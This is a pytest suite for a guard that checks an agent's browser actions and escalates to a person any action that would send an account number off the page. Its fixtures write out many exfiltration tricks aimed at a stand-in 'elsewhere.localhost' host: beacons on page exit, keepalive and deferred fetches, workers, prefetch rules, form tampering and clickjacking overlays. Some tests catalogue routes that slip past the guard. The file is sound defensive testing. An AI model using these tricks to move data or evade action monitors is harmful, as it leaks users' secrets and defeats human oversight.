"""GuardedPage: somebody's own page under a guard, in the sync and async API, on an application of no schema of ours."""

import asyncio
import contextlib
import json
import re
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import async_playwright
from playwright.sync_api import sync_playwright

from wm_pipeline.domain.action import Action
from wm_pipeline.domain.decision import Decision
from wm_pipeline.domain.errors import NotDoneError, WorldError
from wm_pipeline.domain.relations import relate
from wm_pipeline.domain.state import State
from wm_pipeline.domain.unknown_effects import why_effect_unknown
from wm_pipeline.domain.vocabulary import ActionKind, Verdict
from wm_pipeline.environments.browser import any_page, sync_pages
from wm_pipeline.environments.browser.any_page import Session, observe
from wm_pipeline.environments.browser.chromium import find_chromium
from wm_pipeline.guard.page import ActionRefusedError, GuardedPage, Judged
from wm_pipeline.guard.unjudged import why_unjudged

PAGE = """<!doctype html><title>Orders</title><h1>New order</h1>
<form action="/order" method="post">
  <label>Name <input name="name"></label>
  <label>Size <select name="size"><option>small<option>large</select></label>
  <label>Paid <input type="checkbox" name="paid" value="yes"></label>
  <button>Order</button>
</form>
<button id="ping" onclick="fetch('/ping', {method: 'POST', body: JSON.stringify({iban: 'DE00 5001'})})">Check</button>
<button id="title" onclick="document.title = 'clicked'">Show</button>
<button id="later">Later</button>
<form action="/files" method="post" enctype="multipart/form-data">
  <input type="file" name="file" aria-label="File"></form>
<a href="/other">Other</a> <a href="http://elsewhere.localhost:PORT/take?iban=DE00%205001">Confirm</a>
"""
TRICKS = """<!doctype html><title>Tricks</title><p>The account is DE00 5001.</p>
<form id="wire" action="/wire" method="post"><input name="amount" value="5"><button>Pay</button></form>
<form id="note" action="/note" method="post"><input name="text" value="5"><button>Keep</button></form>
<form id="spa" action="/spa" method="post"><input name="x" value="5"><button>Save</button></form>
<a href="http://elsewhere.localhost:PORT/docs" id="docs">Docs</a>
<div id="moving"><button id="under">Details</button><a href="/other" id="over">Delete</a></div>
<style>#moving { position: relative; width: 200px; height: 40px; } #over { position: absolute; left: -999px; }
#under, #over { width: 200px; height: 40px; } #moving:hover #over { left: 0; top: 0; z-index: 9; }</style>
<form id="less" action="/less" method="post"><input name="a" value="5"><input name="draft" value="yes">
<button>Less</button></form>
<form id="more" action="/more" method="post"><input name="b" value="5"><button>More</button></form>
<form id="place" action="/place" method="post"><input name="c" value="5"><button>Place</button></form>
<form id="kinds" action="/kinds" method="post"><input name="t" value="a b"><input name="e"><textarea name="w">1
2</textarea><input type="checkbox" name="k" value="1" checked><input type="checkbox" name="k" value="2">
<input type="radio" name="r" value="x"><input type="radio" name="r" value="y" checked>
<input type="hidden" name="h" value="7">
<select name="m" multiple><option selected>p<option selected>q<option>z</select>
<fieldset disabled><input name="off" value="no"></fieldset>
<button name="do" value="all">All</button><input type="image" name="pic" value="v" alt="Picture"></form>
<button id="plain" onclick="navigator.sendBeacon('http://elsewhere.localhost:PORT/take', 'DE00 5001')">Beacon</button>
<button id="socket" onclick="new WebSocket('ws://elsewhere.localhost:PORT/socket')">Socket</button>
<button id="by-and-by" onclick="setTimeout(late, 1500)">By and by</button>
<button id="often" onclick="setTimeout(() => setInterval(late, 100), 800)">Often</button>
<button id="leaving">Leaving</button>
<button id="endless" onclick="for (;;);">Endless</button>
<input id="held" aria-label="Held" value="one"><iframe src="/other" width="900" height="400"></iframe>
<script>
const over = () => { location.hash = "over"; };
const late = () => fetch("/late", {method: "POST", body: "LATE"}).catch(over).then(over);
leaving.onclick = () => addEventListener("pagehide", () => navigator.sendBeacon("/left", "DE00 5001"));
wire.onsubmit = () => { fetch("/wire", {method: "POST", body: "amount=5&to=DE00", keepalive: true}); };
note.addEventListener("formdata", (event) => event.formData.set("text", "DE00 5001"));
less.addEventListener("formdata", (event) => event.formData.delete("draft"));
more.addEventListener("formdata", (event) => event.formData.append("b", "5"));
place.addEventListener("formdata", (event) => event.formData.append("amount.x", "9900"));
spa.onsubmit = (event) => {
  event.preventDefault();
  fetch("/spa", {method: "POST", body: new URLSearchParams(new FormData(spa))});
};
docs.onclick = () => { docs.href += "?account=DE00"; };
</script>
"""
ATTACHED = "document.querySelector('input[type=file]').files[0]?.name"


class Orders:
    """A small shop that keeps what it is sent."""

    def __init__(self) -> None:
        self.received: list[tuple[str, str]] = []
        self.late = "DE00"
        self.pages: dict[str, str] = {}
        """By path, what a test adds."""
        shop = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                shop.received += [(self.path, "")] if "elsewhere" in self.headers["host"] else []
                self._answer()

            def do_POST(self) -> None:
                length = int(self.headers["content-length"])
                shop.received.append((self.path, self.rfile.read(length).decode()))
                self._answer()

            def _answer(self) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("access-control-allow-origin", "*")
                self.end_headers()
                page = shop.pages.get(self.path.partition("?")[0], TRICKS if self.path == "/tricks" else PAGE)
                page = page.replace("LATE", shop.late)
                self.wfile.write(page.replace("PORT", self.headers["host"].partition(":")[2]).encode())

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self.server.server_port}/"
        Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def orders() -> Iterator[Orders]:
    shop = Orders()
    yield shop
    shop.server.shutdown()
    shop.server.server_close()


class AccountGuard:
    """Leaves to a person whatever sends the account away."""

    def decide(self, state: State, action: Action) -> Decision:
        relations = relate(state, action)
        sent = [*(one.value for one in relations.sends), relations.destination or ""]
        verdict = Verdict.ESCALATE if any("DE00" in one for one in sent) else Verdict.EXECUTE
        executed = action if verdict is Verdict.EXECUTE else None
        return Decision(verdict, executed, "the account", None, 1.0, hold=why_effect_unknown(state, action))


TOLD = (ActionRefusedError, NotDoneError, PlaywrightError)


def in_sync(orders: Orders, steps: list[Callable[[GuardedPage], Any]], **options: Any) -> list[Any]:
    answers = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(find_chromium(None).path), args=["--no-sandbox"])
        page = GuardedPage(browser.new_page(), AccountGuard(), goal="Order for Dana.", **options)
        page.goto(orders.url)
        for step in steps:
            try:
                answers.append(step(page))
            except TOLD as error:
                answers.append(error)
        browser.close()
    return answers


def in_async(orders: Orders, steps: list[Callable[[GuardedPage], Any]], **options: Any) -> list[Any]:
    async def play() -> list[Any]:
        answers = []
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=str(find_chromium(None).path), args=["--no-sandbox"]
            )
            page = GuardedPage(await browser.new_page(), AccountGuard(), goal="Order for Dana.", **options)
            await page.goto(orders.url)
            for step in steps:
                try:
                    answers.append(await step(page))
                except TOLD as error:
                    answers.append(error)
            await browser.close()
        return answers

    return asyncio.run(play())


both = pytest.mark.parametrize("play", [in_sync, in_async], ids=["sync", "async"])
Play = Callable[..., list[Any]]


@both
def test_what_is_let_through_is_done_as_the_page_itself_does_it(play: Play, orders: Orders, tmp_path: Path) -> None:
    file = tmp_path / "receipt.txt"
    file.write_text("paid")

    answers = play(
        orders,
        [
            lambda page: page.set_input_files("input[type=file]", file),
            lambda page: page.unguarded.evaluate(ATTACHED),
            lambda page: page.get_by_label("Name").fill("Dana"),
            lambda page: page.locator("form").first.locator("select").select_option("large"),
            lambda page: page.check("[name=paid]"),
            lambda page: page.check("[name=paid]"),
            lambda page: page.get_by_role("button", name="Order").click(),
            lambda page: page.click("#title"),
            lambda page: page.title(),
            lambda page: page.get_by_role("link", name="Other").click(),
        ],
    )

    assert orders.received == [("/order", "name=Dana&size=large&paid=yes")]
    assert (answers[1], answers[8]) == ("receipt.txt", "clicked")
    assert not [one for one in answers if isinstance(one, Exception)]


@both
def test_what_only_a_script_knew_is_judged_before_it_leaves(play: Play, orders: Orders) -> None:
    refused, title = play(orders, [lambda page: page.click("#ping"), lambda page: page.title()])

    assert isinstance(refused, ActionRefusedError)
    assert str(refused) == 'not done: click button "Check": the account'
    assert (orders.received, title) == ([], "Orders")


@both
def test_a_person_lets_one_action_through_once(play: Play, orders: Orders) -> None:
    asked: list[Judged] = []

    def on_escalate(judged: Judged) -> bool:
        asked.append(judged)
        return len(asked) == 1

    first, second = play(orders, [lambda page: page.click("#ping")] * 2, on_escalate=on_escalate)

    assert (first, type(second)) == (None, ActionRefusedError)
    assert orders.received == [("/ping", json.dumps({"iban": "DE00 5001"}, separators=(",", ":")))]
    assert [one.decision.verdict for one in asked] == [Verdict.ESCALATE] * 2


@both
def test_a_callback_that_fails_is_a_no(play: Play, orders: Orders) -> None:
    def on_escalate(judged: Judged) -> bool:
        raise RuntimeError("nobody is there")

    (refused,) = play(orders, [lambda page: page.get_by_text("Confirm").click()], on_escalate=on_escalate)

    assert isinstance(refused, ActionRefusedError)
    assert orders.received == []


@both
def test_in_observe_mode_all_is_done_and_the_verdict_kept(play: Play, orders: Orders) -> None:
    verdicts: list[Verdict] = []

    def kept(page: GuardedPage) -> Any:
        verdicts.extend(one.decision.verdict for one in page.judged)
        return page.title()

    play(orders, [lambda page: page.get_by_text("Confirm").click(), kept], mode="observe")

    assert orders.received == [("/take?iban=DE00%205001", "")]
    assert verdicts == [Verdict.EXECUTE, Verdict.ESCALATE]


@both
def test_a_script_of_the_agents_runs_with_its_requests_held(play: Play, orders: Orders) -> None:
    sends = "fetch('/ping', {method: 'POST', body: 'iban=DE00 5001'}).then(() => 'sent', () => 'held')"

    read, refused = play(orders, [lambda page: page.evaluate("document.title"), lambda page: page.evaluate(sends)])

    assert (read, type(refused)) == ("Orders", ActionRefusedError)
    assert orders.received == []


@both
def test_going_back_sends_no_form_again(play: Play, orders: Orders) -> None:
    order, other, back = play(
        orders,
        [
            lambda page: page.get_by_role("button", name="Order").click(),
            lambda page: page.get_by_role("link", name="Other").click(),
            lambda page: page.go_back(),
        ],
    )

    assert (order, other, str(back)) == (None, None, "going back would send a form again; open its page instead")
    assert len(orders.received) == 1


@both
def test_an_element_that_is_not_one_is_told_as_by_the_page_itself(play: Play, orders: Orders) -> None:
    (told,) = play(orders, [lambda page: page.click("button")])

    assert "strict mode violation" in str(told)


def open_tricks(page: GuardedPage) -> Any:
    return page.goto(page.url + "tricks")


@both
@pytest.mark.parametrize(
    ("target", "sent"),
    [
        ("#wire button", [("/wire", "amount=5")]),
        ("#note button", []),
        ("#docs", []),
        ("#plain", []),
    ],
    ids=["a script to the form's own address", "formdata", "a longer address", "a body of one value"],
)
def test_nothing_else_leaves_under_the_address_that_was_judged(
    play: Play, orders: Orders, target: str, sent: list[tuple[str, str]]
) -> None:
    _, refused = play(orders, [open_tricks, lambda page: page.click(target)])

    assert isinstance(refused, ActionRefusedError)
    assert orders.received == sent


def clicked(orders: Orders, guard: Any, target: str) -> str | None:
    """Why a click on the tricks page was refused; None: it was done."""

    async def work(page: Any) -> str | None:
        await page.goto(orders.url + "tricks")
        try:
            await GuardedPage(page, guard, goal="Order for Dana.").click(target)
        except ActionRefusedError as error:
            return error.decision.reason
        return None

    why: str | None = asyncio.run(async_pages(orders, work))
    return why


@pytest.mark.parametrize(
    "target", ["#less button", "#more button", "#place button"], ids=["left out", "twice", "place"]
)
def test_a_form_that_a_script_changes_as_it_is_sent_is_judged_again(orders: Orders, target: str) -> None:
    assert clicked(orders, NoRequestGuard(), target) == "a request"
    assert orders.received == []


@pytest.mark.parametrize(
    ("target", "own"), [("[name=do]", "&do=all"), ("[name=pic]", "&pic.x=&pic.y=")], ids=["button", "picture"]
)
def test_a_form_of_all_kinds_of_fields_is_sent_as_it_was_judged(orders: Orders, target: str, own: str) -> None:
    assert clicked(orders, NoRequestGuard(), target) is None

    ((path, body),) = orders.received
    assert (path, re.sub(r"(pic\..=)\d+", r"\1", body)) == ("/kinds", f"t=a+b&e=&w=1%0D%0A2&k=1&r=y&h=7&m=p&m=q{own}")


@pytest.mark.parametrize("is_target_framed", [True, False], ids=["out of a frame", "into a frame"])
def test_a_click_that_lands_in_another_document_does_nothing(orders: Orders, *, is_target_framed: bool) -> None:
    style = "<style>#over { position: absolute; left: -999px; top: 0; width: 300px; height: 150px; border: 0; }"
    style += "#moving { position: relative; width: 300px; } #moving:hover #over { left: 0; z-index: 9; }</style>"
    link = "<a href='/other' target='_top' style='display: block; height: 140px'>Delete</a>"
    button = "<button id='under' style='width: 250px; height: 140px'>Details</button>"
    under = (
        "<iframe src='/under' style='width: 300px; height: 150px; border: 0'></iframe>" if is_target_framed else button
    )
    over = f"<div id='over'>{link}</div>" if is_target_framed else "<iframe id='over' src='/over'></iframe>"
    orders.pages = {"/first": f"{style}<div id='moving'>{under}{over}</div>", "/under": button, "/over": link}

    def click(page: GuardedPage) -> Any:
        return (page.frame_locator("iframe") if is_target_framed else page).locator("#under").click()

    where: list[str] = []

    def told(page: GuardedPage) -> Any:
        where.append(page.url)
        return page.title()

    (_, why, _), _ = guarded_steps(orders, OpenGuard(), lambda page: page.goto(orders.url + "first"), click, told)

    assert why is not None
    assert why.endswith("over the target, and a click would land on it")
    assert where == [orders.url + "first"]


def test_a_page_that_is_another_one_once_it_is_judged_is_told_as_such(orders: Orders) -> None:
    class ThinkingGuard(OpenGuard):
        def decide(self, state: State, action: Action) -> Decision:
            time.sleep(3.0 if action.kind is ActionKind.CLICK else 0.0)
            return super().decide(state, action)

    orders.pages = {
        "/first": "<p>x</p><button id='go'>Go</button><script>setTimeout(() => { location = '/next'; }, 2500)</script>",
        "/next": "<p>y</p><button>Approve</button>",
    }

    (_, why), _ = guarded_steps(
        orders, ThinkingGuard(), lambda page: page.goto(orders.url + "first"), lambda page: page.click("#go")
    )

    assert why == "the page does not offer this: action.target_ref: click needs the element_ref of an element"


def test_a_click_that_lands_elsewhere_is_judged_again_and_not_told_as_done(orders: Orders) -> None:
    why = clicked(orders, OpenGuard(), "#under")

    assert why == 'link "Delete" lies over the target, and a click would land on it'


@both
def test_a_form_that_a_script_sends_as_it_stands_is_sent(play: Play, orders: Orders) -> None:
    assert play(orders, [open_tricks, lambda page: page.click("#spa button")])[1] is None
    assert orders.received == [("/spa", "x=5")]


@both
def test_what_is_typed_comes_after_what_is_there(play: Play, orders: Orders) -> None:
    answers = play(
        orders,
        [open_tricks, lambda page: page.type("#held", " two"), lambda page: page.input_value("#held")],
    )

    assert answers[1:] == [None, "one two"]


@both
def test_what_stands_in_a_frame_is_judged(play: Play, orders: Orders) -> None:
    frames: list[Callable[[GuardedPage], Any]] = [
        open_tricks,
        lambda page: page.frame_locator("iframe").get_by_label("Name").fill("Dana"),
        lambda page: page.frame_locator("iframe").locator("#ping").click(),
    ]

    assert [type(one) for one in play(orders, frames)[1:]] == [type(None), ActionRefusedError]
    assert orders.received == []


@both
def test_what_could_not_be_held_back_is_told(play: Play, orders: Orders) -> None:
    def told(page: GuardedPage) -> Any:
        unheld.extend(page.unheld)
        return page.title()

    unheld: list[str] = []
    play(orders, [open_tricks, lambda page: page.click("#socket"), told])

    assert [one.partition(" ws:")[0] for one in unheld] == ["socket to"]


async def async_pages(orders: Orders, work: Callable[[Any], Any]) -> Any:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=str(find_chromium(None).path), args=["--no-sandbox"])
        page = await (await browser.new_context()).new_page()
        await page.goto(orders.url)
        answer = await work(page)
        await browser.close()
        return answer


def test_handlers_of_the_pages_owner_run_and_let_nothing_past_the_guard(orders: Orders) -> None:
    async def work(page: Any) -> tuple[int, bool]:
        asked: list[str] = []

        async def go_on(route: Any) -> None:
            asked.append(route.request.url)
            await route.continue_()

        await page.route("**/*", go_on)
        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.")
        with pytest.raises(ActionRefusedError):
            await guarded.click("#ping")
        await guarded.goto(orders.url + "other")
        return len(asked), page.url.endswith("/other")

    assert asyncio.run(async_pages(orders, work)) == (1, True)
    assert orders.received == []


def test_a_judge_is_waited_for_however_long_it_takes(orders: Orders) -> None:
    async def nobody(judged: Judged) -> bool:
        await asyncio.sleep(4)
        return False

    async def work(page: Any) -> None:
        with pytest.raises(ActionRefusedError):
            await GuardedPage(page, AccountGuard(), goal="Order for Dana.", on_escalate=nobody).click("#ping")

    asyncio.run(async_pages(orders, work))
    assert orders.received == []


def test_another_page_of_the_same_browser_sends_what_it_likes_meanwhile(orders: Orders) -> None:
    async def work(page: Any) -> str:
        other = await page.context.new_page()
        await other.goto(orders.url)
        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.", on_escalate=lambda judged: sent(other))
        with pytest.raises(ActionRefusedError):
            await guarded.click("#ping")
        return str(await other.evaluate("window.sent"))

    async def sent(other: Any) -> bool:
        await other.evaluate("fetch('/own', {method: 'POST', body: 'DE00'}).then(() => { window.sent = 'yes'; })")
        return False

    assert asyncio.run(async_pages(orders, work)) == "yes"
    assert orders.received == [("/own", "DE00")]


def waits(page: GuardedPage) -> Any:
    return page.wait_for_url("**#over")


@both
@pytest.mark.parametrize(
    ("body", "received"), [("DE00", []), ("x=1", [("/late", "x=1")])], ids=["refused", "let through"]
)
def test_what_a_page_puts_off_until_after_the_action_is_judged_as_its_doing(
    play: Play, orders: Orders, body: str, received: list[tuple[str, str]]
) -> None:
    orders.late = body
    seen: list[GuardedPage] = []
    asked: list[Judged] = []

    def keep(page: GuardedPage) -> Any:
        seen.append(page)
        return page.title()

    play(
        orders,
        [open_tricks, lambda page: page.click("#by-and-by"), waits, keep],
        on_escalate=asked.append,
    )

    assert orders.received == received
    assert seen[0].judged[-1].state.forms[-1].action_url.endswith("/late")
    assert asked == []  # nobody waits for an answer to what a page sends by and by


@both
def test_what_a_page_sends_when_it_is_left_is_judged(play: Play, orders: Orders) -> None:
    play(orders, [open_tricks, lambda page: page.click("#leaving"), lambda page: page.goto(orders.url)])

    assert orders.received == []


PING = "const a = document.createElement('a'); a.href = '#x'; a.ping = '/take?iban'; document.body.append(a); a.click()"
IN_PLACE = {
    "pagehide": "window.onpagehide = () => navigator.sendBeacon('/take', 'iban')",
    "visibility": "document.addEventListener('visibilitychange', () => navigator.sendBeacon('/take', 'iban'))",
    "unload": "window.addEventListener('unload', () => navigator.sendBeacon('/take', 'iban'))",
    "pagehide, fetch": "window.onpagehide = () => fetch('/take', {method: 'POST', body: 'iban', keepalive: true})",
    "pagehide, picture": "window.onpagehide = () => { new Image().src = 'ELSEWHERE'; }",
    "beforeunload": "window.onbeforeunload = () => { navigator.sendBeacon('/take', 'iban'); }",
    "keepalive": "fetch('/take', {method: 'POST', body: 'iban', keepalive: true}); location.href = '/other'",
    "ping": PING,
    "navigation": "navigation.onnavigate = () => { navigator.sendBeacon('/take', 'iban'); }",
    "event source": "new EventSource('ELSEWHERE')",
    "window": "open('ELSEWHERE', '_blank', 'noopener')",
}
PAST = {
    "audio worklet": "new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('ELSEWHERE')",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('ELSEWHERE')`])))",
    "fetchLater": "fetchLater('/take', {method: 'POST', body: 'iban', activateAfter: 100})",
    "prefetch": "const l = document.createElement('link');"
    " l.rel = 'prefetch'; l.href = 'ELSEWHERE'; document.head.append(l)",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules';"
    " s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['ELSEWHERE']}]}); document.head.append(s)",
}


class OpenGuard:
    """Lets through all that can be judged."""

    def decide(self, state: State, action: Action) -> Decision:
        why = None if action.kind is ActionKind.GOTO else why_unjudged(state, action, trained_kinds=None)
        return Decision(Verdict.ESCALATE if why else Verdict.EXECUTE, None if why else action, why or "", None, 1.0)


class NoRequestGuard:
    """Lets through whatever an agent does, and no request of a script."""

    def decide(self, state: State, action: Action) -> Decision:
        is_request = action.kind is ActionKind.SUBMIT
        verdict, executed = (Verdict.ESCALATE, None) if is_request else (Verdict.EXECUTE, action)
        return Decision(verdict, executed, "a request", None, 1.0, hold=why_effect_unknown(state, action))


async def tried(page: Any, orders: Orders, script: str) -> tuple[list[tuple[str, str]], str | None]:
    """What arrives when a click runs a script and the page is left; why it was not let go."""
    orders.received.clear()
    elsewhere = orders.url.replace("localhost", "elsewhere.localhost") + "take?iban"
    await page.goto(orders.url)
    await page.evaluate(
        "(script) => { document.getElementById('title').onclick = new Function(script); }",
        script.replace("ELSEWHERE", f"{elsewhere}&{len(script)}"),
    )
    guarded, why = GuardedPage(page, NoRequestGuard(), goal="Order for Dana."), None
    with contextlib.suppress(ActionRefusedError):
        await guarded.click("#title")
    await asyncio.sleep(0.8)
    try:
        await guarded.goto(orders.url)
    except ActionRefusedError as error:
        why = error.decision.reason
    await asyncio.sleep(0.3)
    await page.goto("about:blank")
    return list(orders.received), why


def test_nothing_leaves_when_a_page_is_left_nor_by_rarer_ways(orders: Orders) -> None:
    async def work(page: Any) -> dict[str, Any]:
        return {name: (await tried(page, orders, script))[0] for name, script in IN_PLACE.items()}

    assert asyncio.run(async_pages(orders, work)) == {name: [] for name in IN_PLACE}


def test_what_the_browser_does_not_stop_at_is_told_and_makes_the_rest_a_persons(orders: Orders) -> None:
    async def work(page: Any) -> dict[str, Any]:
        return {name: await tried(page, orders, script) for name, script in PAST.items()}

    found = asyncio.run(async_pages(orders, work))
    told = {name for name, (_, why) in found.items() if "sent what could not be held back" in (why or "")}

    assert {name for name, (arrived, _) in found.items() if arrived} == told
    assert {"audio worklet", "shared worker", "fetchLater", "speculation"} <= told


def guarded_steps(
    orders: Orders, guard: Any, *steps: Callable[[GuardedPage], Any]
) -> tuple[list[str | None], list[str]]:
    """From an empty page: why each step was refused, or None; and what could not be held back."""

    async def play() -> tuple[list[str | None], list[str]]:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=str(find_chromium(None).path), args=["--no-sandbox"]
            )
            page = GuardedPage(await browser.new_page(), guard, goal="Order for Dana.")
            whys: list[str | None] = []
            for step in steps:
                try:
                    await step(page)
                    whys.append(None)
                except ActionRefusedError as error:
                    whys.append(error.decision.reason)
                await asyncio.sleep(0.8)
            await browser.close()
        return whys, page.unheld

    return asyncio.run(play())


@pytest.mark.parametrize("left", ["pagehide", "visibilitychange", "unload"])
@pytest.mark.parametrize("is_framed", [False, True], ids=["page", "frame"])
def test_a_page_that_listens_from_the_start_does_not_hear_that_it_is_left(
    orders: Orders, left: str, *, is_framed: bool
) -> None:
    hears = f"<p>x</p><script>addEventListener('{left}', () => navigator.sendBeacon('/take', 'iban'), true)</script>"
    orders.pages = {"/hears": hears, "/around": "<p>x</p><iframe src='/hears'></iframe>"}
    path = "around" if is_framed else "hears"

    whys, _ = guarded_steps(
        orders, NoRequestGuard(), lambda page: page.goto(orders.url + path), lambda page: page.goto(orders.url)
    )

    assert (whys, orders.received) == ([None, None], [])


def test_what_the_next_document_tells_by_a_picture_is_judged_and_a_plain_picture_is_shown(orders: Orders) -> None:
    elsewhere = "http://elsewhere.localhost:PORT"
    orders.pages = {
        "/first": "<p>x</p><button id='go' onclick=\"location = '/next?iban=DE00'\">Go</button>",
        "/next": f"<p>y</p><img src='{elsewhere}/logo.png?v=3'>"
        f"<script>new Image().src = '{elsewhere}/take' + location.search</script>",
    }

    whys, _ = guarded_steps(
        orders, NoRequestGuard(), lambda page: page.goto(orders.url + "first"), lambda page: page.click("#go")
    )

    assert (whys, orders.received) == ([None, None], [("/logo.png?v=3", "")])


def test_a_page_reads_its_own_site_and_no_longer_that_before_it(orders: Orders) -> None:
    orders.pages = {
        "/own": "<p>x</p><iframe src='/other'></iframe><script>fetch('/other?own')</script>",
        "/back": f"<p>x</p><script>fetch('{orders.url}other?DE00').catch(() => null)</script>",
    }
    there = orders.url.replace("localhost", "elsewhere.localhost")

    whys, _ = guarded_steps(
        orders,
        NoRequestGuard(),
        lambda page: page.goto(orders.url + "own"),
        lambda page: page.goto(there + "own"),
        lambda page: page.goto(there + "back"),
        lambda page: page.goto(orders.url),
        lambda page: page.goto(there + "back"),
    )

    assert whys == [None, None, "a request", None, "a request"]


def test_what_a_window_sends_past_the_browser_is_told_too(orders: Orders) -> None:
    orders.pages = {
        "/first": "<p>x</p><button id='go' onclick=\"window.open('/window')\">Go</button>",
        "/window": "<p>y</p><script>setTimeout(() => fetchLater('/take', "
        "{method: 'POST', body: 'x', activateAfter: 100}), 1000)</script>",
    }

    whys, unheld = guarded_steps(
        orders,
        NoRequestGuard(),
        lambda page: page.goto(orders.url + "first"),
        lambda page: page.click("#go"),
        lambda page: page.wait_for_timeout(2000),
        lambda page: page.evaluate("1"),
    )

    assert (whys[:3], unheld) == ([None] * 3, [f"POST {orders.url}take"])
    assert whys[3] == f"a page of this site has sent what could not be held back: POST {orders.url}take"


def test_what_the_browser_asks_before_a_request_that_is_let_through_is_no_evasion(orders: Orders) -> None:
    sends = (
        "fetch('http://elsewhere.localhost:PORT/api', {method: 'POST', headers: {'content-type': 'application/json'}})"
    )
    orders.pages = {"/first": f"<p>x</p><button id='go' onclick=\"{sends}\">Go</button>"}

    whys, unheld = guarded_steps(
        orders,
        AccountGuard(),
        lambda page: page.goto(orders.url + "first"),
        lambda page: page.click("#go"),
        lambda page: page.click("#go"),
    )

    assert (whys, unheld, len(orders.received)) == ([None] * 3, [], 2)


def test_the_same_request_again_and_again_is_judged_once(orders: Orders) -> None:
    async def work(page: Any) -> int:
        await page.goto(orders.url + "tricks")
        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.")
        await guarded.click("#often")
        await asyncio.sleep(1.5)
        return len(guarded.judged)

    assert asyncio.run(async_pages(orders, work)) == 2
    assert orders.received == []


def test_what_is_done_with_the_page_itself_is_not_held_nor_are_pages_opened_after_it(orders: Orders) -> None:
    async def work(page: Any) -> None:
        await page.goto(orders.url)
        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.")
        await guarded.click("#title")
        other = await page.context.new_page()
        await other.goto(orders.url)
        await other.evaluate("fetch('/other', {method: 'POST', body: 'DE00'})")
        await guarded.unguarded.evaluate("fetch('/free', {method: 'POST', body: 'DE00'})")
        await guarded.click("#title")
        await page.evaluate("fetch('/held', {method: 'POST', body: 'DE00'}).catch(() => null)")

    asyncio.run(async_pages(orders, work))
    assert orders.received == [("/other", "DE00"), ("/free", "DE00")]


def test_a_page_that_never_answers_ends_the_act(orders: Orders, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(any_page, "ACT_LIMIT_S", 1.0)

    async def work(page: Any) -> None:
        await page.goto(orders.url + "tricks")
        with pytest.raises(WorldError, match="did not answer an action within 1 s"):
            await GuardedPage(page, AccountGuard(), goal="Order for Dana.").click("#endless")

    asyncio.run(async_pages(orders, work))


def test_a_page_that_never_answers_ends_the_act_in_the_sync_api_too(
    orders: Orders, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sync_pages, "CALL_LIMIT_S", 2.0)

    def told(page: GuardedPage) -> str:
        page.goto(orders.url + "tricks")
        with pytest.raises(WorldError) as caught:
            page.click("#endless")
        return str(caught.value)

    (words,) = in_sync(orders, [told])
    assert "did not answer" in words


def test_a_judge_is_waited_for_in_the_sync_api_too(orders: Orders, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sync_pages, "CALL_LIMIT_S", 2.0)

    def somebody(judged: Judged) -> bool:
        time.sleep(4)
        return True

    in_sync(orders, [lambda page: page.click("#ping")], on_escalate=somebody)

    assert [path for path, _ in orders.received] == ["/ping"]


@pytest.mark.parametrize("written", ["other?a=1", "/other?a=1", "//localhost:PORT/other?a=1", "?a=1", "./other?a=1"])
@pytest.mark.parametrize("base_url", [None, "http://elsewhere.localhost/"])
def test_a_relative_address_is_judged_and_opened_as_a_link_on_the_page_would_be(
    orders: Orders, written: str, base_url: str | None
) -> None:
    asked: list[str] = []

    class Noting(AccountGuard):
        def decide(self, state: State, action: Action) -> Decision:
            asked.append(relate(state, action).destination or "")
            return super().decide(state, action)

    async def work() -> str:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=str(find_chromium(None).path), args=["--no-sandbox"]
            )
            page = await browser.new_page(base_url=base_url)
            await page.goto(orders.url)
            guarded = GuardedPage(page, Noting(), goal="Order for Dana.")
            await guarded.goto(written.replace("PORT", str(orders.server.server_port)))
            address = page.url
            await browser.close()
            return address

    opened = asyncio.run(work())

    assert asked == [opened]
    assert opened == f"{orders.url}{'' if written == '?a=1' else 'other'}?a=1"


def test_a_window_beside_it_is_under_the_same_guard(orders: Orders) -> None:
    async def work(page: Any) -> int:
        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.")
        other = await page.context.new_page()
        await other.goto(orders.url)
        with pytest.raises(ActionRefusedError):
            await guarded.beside(other).click("#ping")
        return len(guarded.judged)

    assert asyncio.run(async_pages(orders, work)) == 2
    assert orders.received == []


@pytest.mark.parametrize(
    "tried",
    [
        lambda page: page.locator("#ping").click(trial=True),
        lambda page: page.click("#ping", position={"x": 1, "y": 1}),
        lambda page: page.main_frame,
        lambda page: page.wait_for_selector("#ping"),
        lambda page: page.expect_popup(),
    ],
    ids=["trial", "position", "frame", "handle", "popup"],
)
def test_what_would_act_in_another_way_or_beside_the_guard_is_refused(
    tried: Callable[[GuardedPage], Any], orders: Orders
) -> None:
    def told(page: GuardedPage) -> str:
        with pytest.raises(AttributeError, match="no guard judges"):
            tried(page)
        return str(page.title())

    assert in_sync(orders, [told]) == ["Orders"]


def test_what_no_guard_judges_is_refused_by_name(orders: Orders) -> None:
    def tried(page: GuardedPage) -> str:
        with pytest.raises(AttributeError) as told:
            page.drag_and_drop("#ping", "#title")
        return str(told.value)

    assert in_sync(orders, [tried]) == ["no guard judges drag_and_drop; where nobody need judge it, use .unguarded"]


